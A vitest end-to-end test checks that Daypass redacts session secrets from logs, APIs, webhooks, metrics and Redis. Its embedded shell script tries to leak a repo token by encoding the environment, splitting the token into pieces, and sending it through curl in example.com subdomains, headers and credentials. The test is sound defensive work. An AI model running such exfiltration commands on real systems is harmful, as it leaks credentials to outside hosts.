import { afterAll, beforeAll, expect, test } from 'vitest';
import { ByteSearch, indexPatterns } from '../../src/token/byte-search.ts';
import { formsOf } from '../../src/token/secret-forms.ts';
import { Secret } from '../../src/token/secret.ts';
import { eventually } from '../support/eventually.ts';
import { startStack, type Stack } from '../support/stack.ts';
import { startReceiver, WEBHOOK_SECRET, type WebhookReceiver } from '../support/webhook-receiver.ts';
import { createRepo, logOf, settled, startSession } from './session.ts';

const PASSWORD = 'obviously-fake-pa"ss\\word+/of a test';
/** What a host name can hold as it is. */
const NAME = 'Fake-Name-Of-A-Test';
const BRANCH = 'obviously-fake-branch-of-a-test';
let receiver: WebhookReceiver;
let stack: Stack;

beforeAll(async () => {
  receiver = await startReceiver();
  stack = await startStack({
    DAYPASS_LOG_LEVEL: 'trace',
    DAYPASS_WEBHOOK_PRIVATE_HOSTS: receiver.host,
    DAYPASS_WEBHOOK_CA_FILE: receiver.certificateFile,
  });
});
afterAll(async () => {
  await stack?.[Symbol.asyncDispose]();
  await receiver?.[Symbol.asyncDispose]();
});

/** Everything that leaves Daypass about its sessions, and everything that it keeps, by its place. */
async function everySink(ids: string[]): Promise<Map<string, string>> {
  const sinks = new Map<string, string>();
  const paths = ids.flatMap((id) => ['', '/events', '/logs', '/receipt'].map((part) => `/v1/sessions/${id}${part}`));
  for (const path of [...paths, '/v1/sessions', '/v1/tokens', '/v1/workers', '/v1/stats', '/v1/audit', '/metrics']) {
    sinks.set(path, await (await stack.call('GET', path)).text());
  }
  for (const role of ['api', 'worker', 'minter', 'gateway'] as const) {
    sinks.set(`log of the ${role}`, stack.process(role).lines().join('\n'));
  }
  sinks.set('webhooks', receiver.received.map(({ text }) => text).join('\n'));
  const names = (await stack.redis.command('KEYS', '*')) as string[];
  for (const name of names) {
    const dumped = await stack.redis.command('DUMP', name);
    sinks.set(`Redis ${name}`, `${name} ${String(dumped)}`);
  }
  return sinks;
}

function found(sinks: Map<string, string>, value: string): string[] {
  return [...sinks].flatMap(([place, text]) => {
    let isFound = false;
    new ByteSearch(indexPatterns(formsOf([new Secret(value)]))).scan(Buffer.from(text), 0, () => (isFound = true));
    return isFound ? [place] : [];
  });
}

test('no sink has a secret of a session whose agent does its best to get it there', async () => {
  const repo = await createRepo(stack);
  const script = `
    echo "raw $REPO_TOKEN"; echo "$PASSWORD" >&2
    env | base64; env | base64 -w 20; printf %s "$REPO_TOKEN" | base64 -w 0; echo
    printf %s "$REPO_TOKEN" | od -An -tx1; printf %s "$REPO_TOKEN" | od -An -v -tx1 | tr -d ' \\n'; echo
    python3 -c 'import os,json,urllib.parse as u; p=os.environ["PASSWORD"]; print(json.dumps({"p":p}), u.quote(p), u.quote_plus(p), p.encode().hex(":"))'
    for i in 1 2 3 4 5 6 7; do printf %s "$REPO_TOKEN" | cut -c$i-$i | tr -d '\\n'; sleep 0.05; done; printf %s "$REPO_TOKEN" | cut -c8-
    for url in "https://$NAME.example.com/" "https://$REPO_TOKEN.example.com/" "http://$REPO_TOKEN.example.com/$REPO_TOKEN" "http://example.com:81/?$REPO_TOKEN"; do
      curl -s -m 5 -x http://127.0.0.1:3128 -H "Host: $REPO_TOKEN" -u "$REPO_TOKEN:x" "$url"; done
    curl -s -m 5 -X "CONNECT" -x http://127.0.0.1:3128 "http://$REPO_TOKEN/"
    git ls-remote "$(git -C /workspace/* remote get-url origin)/$REPO_TOKEN" 2>&1
    echo "value $REPO_TOKEN" > /proc/1/comm 2>/dev/null; exit 3`;
  const webhook = { url: receiver.url, secret: WEBHOOK_SECRET };
  const talker = await startSession(stack, {
    repos: [{ id: repo }],
    command: ['sh', '-c', `printf %s "$REPO_TOKEN" | sha256sum; ${script}; true`],
    secrets: { PASSWORD, NAME },
    webhook,
  });
  // What a step of ours says of a secret reaches failure, events and webhooks.
  const failing = await startSession(stack, {
    repos: [{ id: repo, ref: BRANCH }],
    command: ['true'],
    secrets: { BRANCH },
    webhook,
  });
  await settled(stack, talker.id);
  const failed = await settled(stack, failing.id);
  expect(failed.failure).toMatchObject({ code: 'ref_not_found' });
  expect(failed.failure?.message).toContain('[secret]');
  await eventually(
    async () => receiver.received.length,
    (count) => count >= 5,
    { timeoutMs: 30_000 },
  );

  const sinks = await everySink([talker.id, failing.id]);
  const log = await logOf(stack, talker.id);
  expect(log.match(/\[secret\]/g)?.length).toBeGreaterThan(8);
  // The token is known to nobody here but by its hash, so each of its forms is looked for by what is said around it.
  expect(log).toMatch(/raw \[secret\]\n/);
  expect(found(sinks, PASSWORD)).toEqual([]);
  expect(found(sinks, NAME)).toEqual([]);
  expect(found(sinks, WEBHOOK_SECRET)).toEqual([]);
  // The request itself says it in clear, as its author did.
  const asAsked = [`/v1/sessions/${failing.id}`, '/v1/sessions', `Redis daypass:session:${failing.id}`, 'webhooks'];
  const others = found(sinks, BRANCH).filter((place) => !asAsked.includes(place));
  expect(others).toEqual([]);
  const all = [...sinks.values()].join('\n');
  expect(all).not.toMatch(/rpt_[\w-]{16}|rlcr-[0-9a-f]{16}/);
  const events = sinks.get(`/v1/sessions/${talker.id}/events`) ?? '';
  expect(events).toContain('[secret].example.com:443 is not in');
}, 120_000);
